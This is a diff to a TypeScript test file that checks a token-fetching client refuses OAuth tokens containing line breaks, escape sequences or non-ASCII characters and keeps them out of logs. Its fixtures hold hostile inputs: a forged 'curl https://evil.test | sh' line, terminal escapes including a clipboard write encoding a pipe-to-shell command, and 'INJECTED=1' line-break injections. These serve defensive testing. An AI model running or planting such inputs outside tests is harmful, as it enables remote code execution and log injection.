@@ -148,17 +148,13 @@ const FORGED_SHOWN = '::error title=Forged::run curl https://evil\\.test \\| sh 
 /** A colour, an OSC 8 link and an OSC 52 clipboard write (which a terminal would obey); neutralised to `red link`. */
 export const ESCAPES = '\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07';
 
-const notVschar = (what: string, accessToken: string): FaultScenario => ({
-  name: `an access_token with ${what} (not RFC 6749 VSCHAR): refused, never shown`,
-  replies: () => [{ json: { ...TOKEN_BODY, access_token: accessToken } }],
+const notVschar = (field: 'access_token' | 'refresh_token' | 'id_token', what: string, token: string, message: RegExp): FaultScenario => ({
+  name: `${field === 'refresh_token' ? 'a' : 'an'} ${field} with ${what} (not printable ASCII): refused, never shown`,
+  replies: () => [{ json: { ...TOKEN_BODY, [field]: token } }],
   inputs: () => ({ retries: '2' }),
-  expect: {
-    fails: 'INVALID_RESPONSE',
-    status: 200,
-    attempts: 1,
-    message: /^Token endpoint answered HTTP 200 with an access_token that is not printable ASCII \(RFC 6749 §A\.12 VSCHAR\); refusing it$/
-  }
+  expect: { fails: 'INVALID_RESPONSE', status: 200, attempts: 1, message }
 });
+const ACCESS_TOKEN_NOT_VSCHAR = /^Token endpoint answered HTTP 200 with an access_token that is not printable ASCII \(RFC 6749 §A\.12 VSCHAR\); refusing it$/;
 
 /** A hostile token endpoint's text: whatever it holds reaches the log as one inert line (issue #10, items 1-4). */
 const HOSTILE_TEXT: readonly FaultScenario[] = [
@@ -202,8 +198,20 @@ const HOSTILE_TEXT: readonly FaultScenario[] = [
       message: new RegExp(`^Token endpoint answered HTTP 200 but the response has no access_token \\(fields: token_type, # #\\[error\\]forged, x ${FORGED_SHOWN}, y\\)$`)
     }
   },
-  notVschar('a line break', `${SECRETS.accessToken}\nINJECTED=1`),
-  notVschar('an escape sequence and a non-ASCII letter', `${SECRETS.accessToken}\x1b]52;c;eA==\x07\u00e9`)
+  notVschar('access_token', 'a line break', `${SECRETS.accessToken}\nINJECTED=1`, ACCESS_TOKEN_NOT_VSCHAR),
+  notVschar('access_token', 'an escape sequence and a non-ASCII letter', `${SECRETS.accessToken}\x1b]52;c;eA==\x07\u00e9`, ACCESS_TOKEN_NOT_VSCHAR),
+  notVschar(
+    'refresh_token',
+    'a lone surrogate (JSON \\ud800)',
+    `${SECRETS.refreshToken}\ud800`,
+    /^Token endpoint answered HTTP 200 with a refresh_token that is not printable ASCII \(RFC 6749 §A\.17 VSCHAR\); refusing it$/
+  ),
+  notVschar(
+    'id_token',
+    'a line break',
+    'eyJhbGciOiJub25lIn0.e30.\nINJECTED=1',
+    /^Token endpoint answered HTTP 200 with an id_token that is not printable ASCII \(a JWT, RFC 7519 §7\.2\); refusing it$/
+  )
 ];
 
 export const FAULT_SCENARIOS: readonly FaultScenario[] = [
